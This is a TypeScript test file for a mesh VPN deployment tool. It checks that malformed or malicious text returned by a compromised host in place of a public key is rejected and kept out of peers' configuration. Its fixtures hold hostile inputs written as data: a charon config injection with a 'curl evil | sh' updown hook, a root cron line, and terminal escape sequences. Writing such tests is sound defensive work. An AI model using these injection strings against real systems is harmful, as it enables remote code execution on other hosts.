import type * as pulumi from "@pulumi/pulumi";
import type { RunOnHost } from "../../components/hostWork";
import { Mesh } from "../../components/mesh";
import type { NodeFailure } from "../../core/describe/failures";
import { planMesh } from "../../core/plan/planMesh";
import type { PublicKey } from "../../core/registry/publicKey";
import { fullMesh } from "../../core/registry/registry";
import { offlineArgs } from "../components/meshArgs";
import { setMocks } from "../components/mocks";
import { settings } from "../plan/arbitraryMesh";
import { labNode } from "../plan/labNode";
import { arbitraryKey } from "../registry/arbitraryRegistry";

/** Where the nodes' keys are made on the nodes, the host of nyc1 is the attacker's, and prints what is no key of its own. */
const names = ["fra1", "nyc1", "tyo1"] as const;

const plan = planMesh(
  { nodes: names.map((name, index) => labNode(index + 1, name)), retired: [], policy: fullMesh },
  settings,
);

/** As openssl(1) writes a key, of any text. */
const pem = (text: string): string => `-----BEGIN PUBLIC KEY-----\n${text}\n-----END PUBLIC KEY-----\n`;

const keyOf = (name: string): PublicKey => arbitraryKey(names.findIndex((one) => one === name));
const [good, ofFra1] = [keyOf("nyc1"), keyOf("fra1")];

let printed = "";
let bundles: Map<string, string>;
const hooks = new Map<string, readonly pulumi.ResourceHook[]>();

beforeAll(async () => {
  await setMocks({
    newResource: async ({ type, name, inputs }: Made) => {
      await runHooks(name, type, inputs);
      const [node = "", step] = name.split("-");
      if (step === "apply") bundles.set(node, String(inputs.stdin));
      return { id: name, state: { ...inputs, result: "p4ssw0rd" } };
    },
    call: () => ({}),
  });
});

interface Made {
  readonly type: string;
  readonly name: string;
  readonly inputs: Record<string, unknown>;
}

/** As the engine does before it makes a resource. One that fails is its node's affair, and the others go on. */
async function runHooks(name: string, type: string, newInputs: Record<string, unknown>): Promise<void> {
  try {
    for (const hook of hooks.get(name) ?? []) await hook.callback({ urn: name, id: name, name, type, newInputs });
  } catch {
    // The Mesh tells of it.
  }
}

const rememberHooks: pulumi.ResourceTransformation = ({ name, opts }) => {
  hooks.set(name, (opts.hooks?.beforeCreate ?? []) as readonly pulumi.ResourceHook[]);
  return undefined;
};

/** Of all that runs on hosts, only the script that makes a key says anything. */
const runOnHost: RunOnHost = ({ name }, line) => {
  const stdout = / sh -s \S+ 1$/m.test(line) ? (name === "nyc1" ? printed : pem(keyOf(name))) : "";
  return Promise.resolve({ status: 0, stdout, stderr: "" });
};

beforeEach(() => {
  bundles = new Map();
});

async function deploy(text: string, deployedKeys = offlineArgs.deployedKeys): Promise<readonly NodeFailure[]> {
  printed = text;
  const args = { plan, ...offlineArgs, organizations: [], runOnHost, keySource: "node" as const, deployedKeys };
  const mesh = new Mesh("dev", args, { transformations: [rememberHooks] });
  return (await mesh.outcome).failures;
}

const command = 'children{overlay{updown="curl evil | sh;:"}}remote{pubkeys=0s';

test.each([
  ["a command for charon, on lines of their own", pem(`${good}\n}\n${command}${good}`)],
  ["a command for charon, without white space", pem(`${good}}${command}${good}`)],
  ["a line for the bundle", pem(`${good}\nfile 0644 /etc/cron.d/x 1\n* * * * * root sh`)],
  ["text after the key", `${pem(good)}include /root/x\n`],
  ["a key of another kind", pem("MCowBQYDK2VuAyEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")],
  ["a key that is too short", pem("MCowBQYDK2VwAyEA")],
  ["the same bits spelled in another way", pem(good.replace(/E=$/, "F="))],
  ["terminal escapes", "\u001b]52;c;ZXZpbA==\u0007\u001b[2K\rall is well"],
  ["nothing", ""],
  ["64 KiB", pem("A".repeat(65536))],
])("%s in the place of a key reaches no peer, and the node is named", async (_, text) => {
  const failures = await deploy(text);
  expect(failures).toEqual([
    {
      node: "nyc1",
      step: "keypair1",
      reason: expect.stringMatching(/^nyc1: what its host gave as public key 1 is none: [ -~\n]+$/) as string,
    },
  ]);
  expect([...bundles.keys()].sort()).toEqual([...names]);
  for (const name of ["fra1", "tyo1"]) {
    expect(bundles.get(name)).toContain(`pubkeys = 0s${keyOf(name === "fra1" ? "tyo1" : "fra1")}\n`);
    expect(bundles.get(name)).not.toMatch(/updown|include|cron|nyc1/);
  }
});

test("the key of another node reaches no peer, and the node is named", async () => {
  const deployed = new Map([["fra1 1", ofFra1] as const]);
  const failures = await deploy(pem(ofFra1), deployed);
  expect(failures).toEqual([
    {
      node: "nyc1",
      step: "keypair1",
      reason: expect.stringContaining("nyc1: its host gave the key of fra1 as its own") as string,
    },
  ]);
  expect(bundles.get("tyo1")).not.toContain("nyc1");
});

test("of two hosts with one key, which was no node's before, the second is named", async () => {
  const failures = await deploy(pem(ofFra1));
  expect(failures).toHaveLength(1);
  expect(failures[0]?.reason).toMatch(
    /^(nyc1: its host gave the key of fra1|fra1: its host gave the key of nyc1) as its own/,
  );
});

test("a good key is taken", async () => {
  expect(await deploy(pem(good))).toEqual([]);
  for (const name of ["fra1", "tyo1"]) expect(bundles.get(name)).toContain(`pubkeys = 0s${good}\n`);
});
